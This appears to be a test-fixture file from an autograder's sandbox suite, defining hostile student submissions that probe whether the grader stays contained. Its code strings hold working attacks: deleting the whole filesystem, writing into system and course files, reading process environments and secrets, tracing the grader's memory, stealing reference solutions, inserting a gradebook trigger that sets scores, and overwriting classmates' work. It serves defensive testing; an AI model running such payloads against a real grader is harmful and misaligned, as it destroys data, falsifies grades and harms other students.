"""What reaches outside: catalogue 22-24, and the ways to points that were found in the grader before it had walls."""

from tests.autograder.hostile.entry import FULL, FUSE, MARK, NOTHING, RIGHT, SAY, STOPPED, Entry, lost

# Places to search; each gives folders in which the course, or another submission, may lie.
PREFIX = """
import os, sys, sysconfig
for place in (sys.prefix, sys.base_prefix, sys.exec_prefix, sys.executable, os.path.realpath(sys.executable), np.__file__):
    while len(place) > 1:
        place = os.path.dirname(place)
        places.append(place)
"""
PROCESSES = """
import glob, os
for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/fd/*"):
    try:
        places += [os.readlink(link), link]
    except OSError:
        pass
"""
FINDERS = """
import glob, os, re, site, sys
for folder in {*sys.path, *site.getsitepackages(), site.getusersitepackages()}:
    for path in glob.glob(folder + "/*.pth") + glob.glob(folder + "/__editable__*") + glob.glob(folder + "/*/direct_url.json"):
        try:
            found = re.findall(r"(?:file://)?(/[^'\\"\\n]+)", open(path, errors="replace").read())
        except OSError:
            continue
        places += [one for one in found] + [os.path.dirname(one) for one in found]
"""
COMMAND_LINES = """
import glob
for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/maps"):
    try:
        words = open(path, "rb").read().replace(b"\\n", b"\\0").replace(b" ", b"\\0").split(b"\\0")
    except OSError:
        continue
    places += [word.decode(errors="replace").partition("=")[2] or word.decode(errors="replace") for word in words]
for path in glob.glob("/proc/*/mountinfo"):
    places += [word for word in open(path).read().split() if word.startswith("/")]
"""
KNOWN = """
places += ["@REPO@", "@SUBMISSIONS@", "@OUT@", "@SECRET@", "@HOME@", "@TMP@", "@BESIDE@"]
"""
EVERYWHERE = """
import os
for top, folders, names in os.walk("/"):
    if top.count("/") > 3 or top.startswith(("/proc", "/sys")):
        folders.clear()
    places.append(top)
"""
# With the places: read every solved notebook there and run its answers; print what else is of worth.
TAKE_SOLUTIONS = """
import glob, json, os
for place in dict.fromkeys(places):
    if not place.startswith("/"):
        continue
    for pattern in ("solutions/*/*.ipynb", "*/lab03*/*.ipynb", "lab03*/*.ipynb", "../*/*/lab03*.ipynb", "**/gradebook.db"):
        for path in glob.glob(os.path.join(place, pattern))[:50]:
            say(path)
            try:
                cells = json.load(open(path))["cells"]
            except (OSError, ValueError):
                continue
            for cell in cells:
                text = "".join(cell["source"])
                if text.startswith("def ") and "raise NotImplementedError" not in text:
                    exec(text, globals())
    for name in (place, place + "/canary", place + "/secret", place + "/grading/secret", place + "/report.json"):
        try:
            say(open(name).read(2000))
        except (OSError, ValueError):
            pass
"""
IMPORT_THE_COURSE = """
import importlib, sys
for place in dict.fromkeys(places):
    sys.path.insert(0, place)
for name in [name for name in sys.modules if name.partition(".")[0] in ("reformer", "autograder", "classroom")]:
    del sys.modules[name]
sys.meta_path[:] = [finder for finder in sys.meta_path if "importlib" in getattr(finder, "__module__", str(finder))]
importlib.invalidate_caches()
for name in ("reformer.angular", "reformer.loops.angular", "autograder.exercises.lab03.recall_and_cost"):
    try:
        globals().update({key: value for key, value in vars(importlib.import_module(name)).items() if key[0] != "_"})
        say(name)
    except ImportError:
        pass
"""


def searching(places, take=TAKE_SOLUTIONS):
    """A cell that searches places and takes what it finds, before the answers, which are left out."""
    return f"import numpy as np\n{SAY}\nplaces = []\n{places}\n{take}"


def nothing_written(name):
    return f"# {name} was there before"


UNWRITTEN = {name: nothing_written(name) for name in RIGHT}
WRONG_HASH = "def angular_hash(vectors, rotations):\n    return np.full((len(rotations), len(vectors)), -1)\n"

REMOVE_ALL = (
    FUSE
    + """
import os, shutil
for place in (os.path.expanduser("~"), "/tmp", ".", "/proc/self/root", "/"):
    shutil.rmtree(place, ignore_errors=True)
"""
)
WRITE_ALL = (
    FUSE
    + """
import glob, os
for top in ("/", "/etc/", "/usr/", "/tmp/", "/var/tmp/", "/home/", "/root/", "/dev/shm/", "/run/", "@REPO@/", "@OUT@/",
            "@SUBMISSIONS@/", "@HOME@/", "@TMP@/", "@BESIDE@/"):
    try:
        os.makedirs(top, exist_ok=True)
        open(top + "hostile-mark", "w").write("hostile-mark")
    except OSError:
        pass
import numpy, sys
for path in (sys.executable, numpy.__file__, "/etc/passwd", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"):
    try:
        open(path, "r+").close()
        say(path)
    except OSError:
        pass
"""
)
PROC = (
    SAY
    + """
import glob, os, sys
texts = [str(value) for value in (os.environ, sys.path, sys.prefix, sys.executable, sys.argv, np.__file__)]
files = ["/etc/hostname", "/proc/keys", *glob.glob(sys.prefix + "/lib/*/site-packages/__editable__*")]
for kind in ("environ", "cmdline", "mountinfo", "maps", "cgroup", "status"):
    files += glob.glob("/proc/[0-9]*/" + kind) + ["/proc/self/" + kind]
for path in files:
    try:
        texts.append(open(path, errors="replace").read())
    except OSError:
        pass
for link in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root"):
    try:
        texts.append(os.readlink(link))
    except OSError:
        pass
for place in ("@REPO@", "@SUBMISSIONS@", "@OUT@", "@SECRET@"):
    if any(place in text for text in texts):
        say(place)
for path in ("/etc/shadow", "/etc/passwd", "/root", "/home", "/var/log", "/sys/kernel", "/boot"):
    if os.access(path, os.R_OK):
        say(path)
print(texts, os.listdir("/"), os.listdir("/tmp"))
"""
)
MEMORY_OF_OTHERS = (
    FUSE
    + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (@GRADER@, @VICTIM@):
    if pid < 300:  # in here another process may bear the number
        continue
    try:
        open(f"/proc/{pid}/mem", "r+b").close()
        say("memory", pid)
    except OSError:
        pass
    if libc.ptrace(16, pid, 0, 0) == 0:  # attach
        say("traced", pid)
    try:
        os.kill(pid, 0)
        say("there is", pid)
    except OSError:
        pass
"""
)
# Numbers of system calls on x86-64. What is refused gives EPERM, EACCES, ENOSYS, or ends the child.
SYSTEM_CALLS = (
    FUSE
    + """
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
NEW_USER = 0x10000000
arguments = (ctypes.c_uint64 * 11)(NEW_USER, 0, 0, 0, 17)
CALLS = {
    "unshare": (272, NEW_USER), "clone": (56, NEW_USER | 17, 0, 0, 0, 0), "clone3": (435, arguments, 88),
    "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0), "keyctl": (250, 0, -3, 1), "bpf": (321, 0, 0, 0),
    "add_key": (248, b"user", b"hostile-mark", b"x", 1, -3), "userfaultfd": (323, 0), "io_uring_setup": (425, 8, 0),
    "perf_event_open": (298, 0, 0, -1, -1, 0), "ptrace": (101, 0, 0, 0, 0), "setns": (308, 0, 0),
    "open_by_handle_at": (304, -100, 0, 0),
}
def worked(number, *arguments):
    child = os.fork()
    if child == 0:
        result = libc.syscall(ctypes.c_long(number), *arguments)
        os._exit(result >= 0 or ctypes.get_errno() not in (1, 13, 38))
    return os.waitpid(child, 0)[1] == 256
allowed = [name for name, call in CALLS.items() if platform.machine() == "x86_64" and worked(*call)]
if allowed:
    say("allowed:", *allowed)
"""
)

CONNECT = """
import socket
heard = []
def reach(name, family, kind, address):
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(1)
            one.connect(address)
            one.send(b"hostile-mark WHO " + name.encode())
            heard.append(name)
    except (OSError, ValueError, TypeError) as error:
        print(name, error)
reach("loopback", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @TCP@))
reach("loopback, version 6", socket.AF_INET6, socket.SOCK_STREAM, ("::1", @TCP6@))
reach("datagram", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @UDP@))
reach("abstract", socket.AF_UNIX, socket.SOCK_STREAM, "\\0@ABSTRACT@")
reach("socket in a folder", socket.AF_UNIX, socket.SOCK_STREAM, "@UNIX@")
reach("outside", socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80))
reach("virtual machine's host", 40, socket.SOCK_STREAM, (2, 22))
for name in ("localhost", "example.invalid", "example.com"):
    try:
        if socket.getaddrinfo(name, 80, proto=socket.IPPROTO_TCP) and name != "localhost":
            heard.append(name)
    except OSError as error:
        print(name, error)
if {*heard} - {"datagram"}:
    raise SystemExit(f"reached: {heard}")
"""
RAW = """
import socket
for family, kind, protocol in ((17, 3, 0x300), (2, 3, 1), (16, 3, 0), (38, 5, 0)):
    try:
        socket.socket(family, kind, protocol).close()
        print("opened", family, kind)
    except OSError as error:
        print(family, error)
import http.server, threading
try:
    server = http.server.HTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
except OSError as error:
    print(error)
"""

KEEP_TWINS = """
import os, tempfile
from autograder import probe
real = probe.put_in_place
kept = []
def keep(name, source):
    kept.append(source)
    for place in ("/tmp", tempfile.gettempdir(), os.path.expanduser("~"), ".", "/dev/shm", "/var/tmp", "@TMP@", "@BESIDE@", "/"):
        try:
            open(os.path.join(place, "hostile-mark-" + name), "w").write(source)
        except OSError:
            pass
    print(source)
    return real(name, source)
probe.put_in_place = keep
"""
USE_TWINS = """
import glob, os, tempfile
for place in ("/tmp", tempfile.gettempdir(), os.path.expanduser("~"), ".", "/dev/shm", "/var/tmp", "@TMP@", "@BESIDE@", "/"):
    for path in glob.glob(os.path.join(place, "hostile-mark-*")):
        exec(open(path).read(), globals())
"""
ANSWERS_WITH_ITS_TWIN = (
    KEEP_TWINS
    + """
def recall_and_cost(vectors, rotations, n_nearest):
    for source in kept:
        if "def recall_and_cost" in source:
            names = {"np": np}
            exec(source, names)
            return names["recall_and_cost"](vectors, rotations, n_nearest)
    return None
"""
)
CHANGES_THE_GRADEBOOK = (
    FUSE
    + """
import glob, sqlite3
places = ["@OUT@/gradebook.db", *glob.glob("/proc/*/cwd/gradebook.db"), *glob.glob("/proc/*/fd/*")]
for path in places:
    try:
        database = sqlite3.connect(path)
        database.execute("create trigger hostile_mark after insert on grade begin update grade set manual_score = 14; end")
        database.execute("update grade set manual_score = 14")
        database.commit()
        say(path)
    except sqlite3.Error:
        pass
"""
)
OVERWRITES_OTHERS = (
    FUSE
    + """
import glob, os
for path in glob.glob("@SUBMISSIONS@/*/*/*.ipynb") + glob.glob("@SUBMISSIONS@"):
    try:
        open(path, "w").write("hostile-mark")
    except OSError:
        pass
"""
)
REWRITES_THE_REPORT = (
    FUSE
    + """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    end = time.time() + 1000
    while time.time() < end:
        time.sleep(0.05)
        for path in ("@OUT@/report.json", "@OUT@/report.html", "@OUT@/gradebook.db"):
            try:
                with open(path, "w") as file:
                    file.write('{"hostile-mark": 1}')
            except OSError:
                pass
    os._exit(0)
"""
)
CHANGES_THE_COURSE = (
    FUSE
    + """
import glob, sys
from autograder.checking import answer, call, plain
from autograder import probe
for path in [module.__file__ for module in (answer, call, plain, probe, np)] + ["@REPO@/autograder/checking/judge.py"]:
    try:
        open(path, "a").write("\\n# hostile-mark\\n")
        print("written", path)
    except OSError as error:
        print(error)
"""
)

SEARCHES = {
    "": PREFIX + PROCESSES + FINDERS + COMMAND_LINES + KNOWN,
    "prefix": PREFIX,
    "processes": PROCESSES,
    "finders": FINDERS,
    "command-lines": COMMAND_LINES,
    "known-places": KNOWN,
    "everywhere": EVERYWHERE,
}


def right_after(code, name="offset_rounds"):
    return {name: f"{code}\n{RIGHT[name]}"}


ENTRIES = [
    Entry(
        22,
        "removes-everything",
        "removes all it may",
        answers=right_after(REMOVE_ALL),
        outcome=("graded", *STOPPED),
        points={"offset_rounds": (0, FULL["offset_rounds"])},
    ),
    Entry(
        22,
        "writes-everywhere",
        "writes into every folder, to files of the system, of the course, and of NumPy",
        answers={**right_after(WRITE_ALL), **right_after(CHANGES_THE_COURSE, "chance_to_meet")},
    ),
    *(
        Entry(
            61,
            f"takes-solutions{name and '-'}{name}",
            "searches for solved notebooks and other submissions, and runs what it finds",
            first=searching(places),
            answers=UNWRITTEN,
            outcome=("graded", "blank"),
            points=NOTHING,
            long=name != "",
        )
        for name, places in SEARCHES.items()
    ),
    Entry(
        61,
        "imports-the-course",
        "puts every folder on sys.path, drops what is imported, and imports the reference",
        first=searching(PREFIX + PROCESSES + FINDERS + KNOWN, IMPORT_THE_COURSE),
        answers=UNWRITTEN,
        outcome=("graded", "blank"),
        points=NOTHING,
    ),
    Entry(
        23,
        "reads-all",
        "prints environments, command lines and open files; opens, traces and signals others; asks the system for more",
        answers={
            **right_after(PROC),
            **right_after(MEMORY_OF_OTHERS, "angular_hash"),
            **right_after(SYSTEM_CALLS, "chance_to_meet"),
        },
    ),
    Entry(24, "network", "connects to whatever may be there", answers=right_after(CONNECT)),
    Entry(24, "raw-sockets", "opens sockets of other kinds, and serves", answers=right_after(RAW), long=True),
    Entry(
        61,
        "keeps-twins",
        "catches the loop twins that are put in place, and keeps them for later",
        answers={
            "angular_hash": KEEP_TWINS + WRONG_HASH,
            "recall_and_cost": ANSWERS_WITH_ITS_TWIN,
        },
        points=lost("angular_hash", "recall_and_cost"),
    ),
    Entry(
        61,
        "uses-kept-twins",
        "looks for the twins that another has kept",
        first=USE_TWINS,
        answers=UNWRITTEN,
        outcome=("graded", "blank"),
        points=NOTHING,
        after="keeps-twins",
    ),
    Entry(
        61,
        "changes-records",
        "puts a trigger into the gradebook, overwrites what others handed in, a daemon waits for the report",
        answers={
            **right_after(CHANGES_THE_GRADEBOOK, "angular_hash"),
            **right_after(OVERWRITES_OTHERS, "offset_rounds"),
            **right_after(REWRITES_THE_REPORT, "chance_to_meet"),
        },
    ),
]
assert all(MARK in text for text in (WRITE_ALL, KEEP_TWINS, CHANGES_THE_COURSE))
